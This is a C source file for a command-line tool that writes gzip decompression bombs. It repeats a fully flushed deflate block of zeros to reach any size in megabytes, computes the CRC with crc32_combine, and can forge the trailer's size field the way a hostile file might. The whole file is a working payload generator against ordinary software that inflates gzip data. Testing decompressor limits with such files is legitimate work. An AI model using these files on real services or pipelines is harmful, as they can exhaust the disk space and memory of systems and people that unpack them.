/*
 * gzbomb.c — writes a valid gzip file that inflates to SIZE bytes of zeros,
 * in milliseconds and without ever holding SIZE bytes: one 1 MiB block of
 * zeros is deflated with Z_FULL_FLUSH (so the compressed block does not
 * depend on what came before) and repeated; the CRC comes from
 * crc32_combine. Deflate cannot expand more than ~1032:1, so 10 GB needs
 * ~10 MB of gzip; a "1 KB gzip of 10 GB" cannot exist. With --isize N the
 * trailer claims a size of N bytes (mod 2^32), as a hostile file may.
 *
 *   gzbomb SIZE_MIB OUT [--isize N]
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: gzbomb SIZE_MIB OUT [--isize N]\n");
		return 2;
	}
	unsigned long long mib = strtoull(argv[1], NULL, 10);
	FILE *f = fopen(argv[2], "wb");
	if (!f || mib == 0) {
		perror(argv[2]);
		return 1;
	}
	const size_t chunk = 1 << 20;
	unsigned char *zeros = calloc(1, chunk), *out = malloc(chunk);
	z_stream z;
	memset(&z, 0, sizeof z);
	/* raw deflate (-15): we write the gzip header and trailer ourselves */
	if (!zeros || !out || deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) != Z_OK)
		return 1;
	static const unsigned char hdr[10] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 3};
	fwrite(hdr, 1, sizeof hdr, f);
	/* The first block primes the window; from the second on the output of
	 * each fully flushed block of zeros is the same bytes. */
	size_t blen = 0;
	for (unsigned long long i = 0; i < 2 && i < mib; i++) {
		z.next_in = zeros;
		z.avail_in = (uInt)chunk;
		z.next_out = out;
		z.avail_out = (uInt)chunk;
		if (deflate(&z, Z_FULL_FLUSH) != Z_OK)
			return 1;
		blen = chunk - z.avail_out;
		fwrite(out, 1, blen, f);
	}
	for (unsigned long long i = 2; i < mib; i++) /* same bytes as block 2 */
		fwrite(out, 1, blen, f);
	/* final empty block */
	unsigned char fin[64];
	z.next_in = zeros;
	z.avail_in = 0;
	z.next_out = fin;
	z.avail_out = sizeof fin;
	if (deflate(&z, Z_FINISH) != Z_STREAM_END)
		return 1;
	fwrite(fin, 1, sizeof fin - z.avail_out, f);
	uLong crc1 = crc32(0, zeros, (uInt)chunk), crc = crc1;
	for (unsigned long long i = 1; i < mib; i++)
		crc = crc32_combine(crc, crc1, (z_off_t)chunk);
	uint32_t isize = (uint32_t)(mib * chunk);
	if (argc > 4 && !strcmp(argv[3], "--isize"))
		isize = (uint32_t)strtoul(argv[4], NULL, 10);
	unsigned char tr[8] = {(unsigned char)crc, (unsigned char)(crc >> 8), (unsigned char)(crc >> 16),
			       (unsigned char)(crc >> 24), (unsigned char)isize, (unsigned char)(isize >> 8),
			       (unsigned char)(isize >> 16), (unsigned char)(isize >> 24)};
	fwrite(tr, 1, 8, f);
	deflateEnd(&z);
	free(zeros);
	free(out);
	return fclose(f) != 0;
}
